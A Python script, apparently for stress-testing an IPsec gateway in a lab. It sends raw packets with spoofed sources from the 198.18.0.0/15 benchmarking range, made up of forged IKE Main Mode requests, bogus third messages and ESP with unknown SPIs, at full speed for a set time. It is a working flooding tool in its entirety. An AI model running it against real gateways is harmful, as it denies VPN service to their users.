#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""uplink_flood.py KIND TO SECONDS: packets for the gateway at TO, as fast as they are taken, from addresses
of 198.18.0.0/15 (RFC 2544 C.2.2) that are nobody's. KIND is one of

    first    first messages of Main Mode that are in order: each asks for a record
    third    messages of negotiations that never were
    esp      ESP with SPIs that nobody has, straight and in UDP
"""
import os
import random
import socket
import struct
import sys
import time


def attribute(kind, value):
    return struct.pack("!HH", 0x8000 | kind, value)


def first():
    # aes256-sha256-ecp256 by pre-shared key, 28,800 s (RFC 2409 App. A)
    attrs = b"".join(attribute(*a) for a in ((1, 7), (14, 256), (2, 4), (3, 1), (4, 19), (11, 1), (12, 28800)))
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    sa = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa


def third():
    body = os.urandom(200)
    return os.urandom(16) + struct.pack("!BBBBII", 4, 0x10, 2, 0, 0, 28 + len(body)) + body


def udp(port, payload):
    return 17, struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload


def packet(kind):
    if kind == "first":
        return udp(500, first())
    if kind == "third":
        return udp(500, third())
    esp = struct.pack("!I", random.randrange(256, 1 << 32)) + os.urandom(96)
    return (50, esp) if random.random() < 0.5 else udp(4500, esp)


def main():
    kind, to, seconds = sys.argv[1], socket.inet_aton(sys.argv[2]), float(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    where = (sys.argv[2], 0)
    stock = [packet(kind) for _ in range(4096)]
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for proto, payload in stock:
            source = struct.pack("!I", 0xc6120000 | random.getrandbits(17))
            header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0) + source + to
            try:
                raw.sendto(header + payload, where)
                n += 1
            except OSError:
                time.sleep(0.0005)
    print("%d packets" % n)


main()
